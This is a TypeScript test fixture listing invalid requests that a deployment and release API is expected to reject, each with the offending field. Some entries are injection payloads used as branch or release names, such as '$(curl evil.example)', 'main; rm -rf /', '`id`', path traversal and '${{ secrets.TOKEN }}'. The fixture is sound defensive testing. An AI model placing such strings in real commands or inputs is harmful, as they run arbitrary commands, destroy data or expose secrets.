const long = 'x'.repeat(2_000);
const promotion = {
  environment: 'prd',
  release: 'v0.3.6',
  intent: 'rollback',
  reason: 'too slow',
};

interface BadInput {
  what: string;
  method?: string;
  /** Below the service, or from the root when it starts with `//`. */
  path: string;
  body?: unknown;
  field: string;
}

const ask = (what: string, body: unknown, field: string): BadInput => ({
  what,
  path: '/promotions',
  body,
  field,
});

const build = (ref: string): BadInput => ({
  what: `a branch named ${ref}`,
  path: '/ephemeral-builds',
  body: { ref, environment: 'dev' },
  field: 'ref',
});

const read = (what: string, path: string, field: string): BadInput => ({
  what,
  method: 'GET',
  path,
  field,
});

/** What is refused before anything is looked up: 400 and the field's name. */
export const badInputs: BadInput[] = [
  ask('malformed JSON', '{"environment": "prd",', 'body'),
  ask('JSON that is no object', '[]', 'body'),
  ask('an unknown field', { ...promotion, force: true }, 'force'),
  ask('a missing field', { ...promotion, intent: undefined }, 'intent'),
  ask('an unknown intent', { ...promotion, intent: 'yolo' }, 'intent'),
  ask('an over-long reason', { ...promotion, reason: long }, 'reason'),
  ask('an over-long name', { ...promotion, release: long }, 'release'),
  ask('a bad release name', { ...promotion, release: '$(id)' }, 'release'),
  ask('no release', { ...promotion, release: undefined }, 'release'),
  ask(
    'an unknown environment',
    { ...promotion, environment: 'qa' },
    'environment',
  ),
  ask(
    'a bad environment',
    { ...promotion, environment: '../prd' },
    'environment',
  ),
  ask('a bad key', { ...promotion, idempotencyKey: 'a b' }, 'idempotencyKey'),
  build('feat/$(curl evil.example)'),
  build('main; rm -rf /'),
  build('`id`'),
  build('-delete'),
  build('../main'),
  build('${{ secrets.TOKEN }}'),
  build('feat/\nx'),
  {
    what: 'a bad digest where a commit belongs',
    path: '/preflight',
    body: { environment: 'dev', intent: 'ephemeral', commit: 'sha256:beef' },
    field: 'commit',
  },
  {
    what: 'an over-long workflow input',
    path: '/releases',
    body: { inputs: { bump: long } },
    field: 'inputs.bump',
  },
  {
    what: 'a rejection without a reason',
    method: 'PUT',
    path: '/releases/v0.3.7/rejection',
    body: {},
    field: 'reason',
  },
  read('a bad entity ref', '//promotions?service=qfa-backend', 'service'),
  read('a bad state', '//promotions?state=lost', 'state'),
  read('a bad limit', '/releases?limit=100000', 'limit'),
  read('a bad cursor', '/history?cursor=%FF%00', 'cursor'),
  read('an unknown filter', '//services?colour=red', 'colour'),
  read('a bad commit', '/compare?from=%24HOME&to=v0.3.7', 'from'),
];
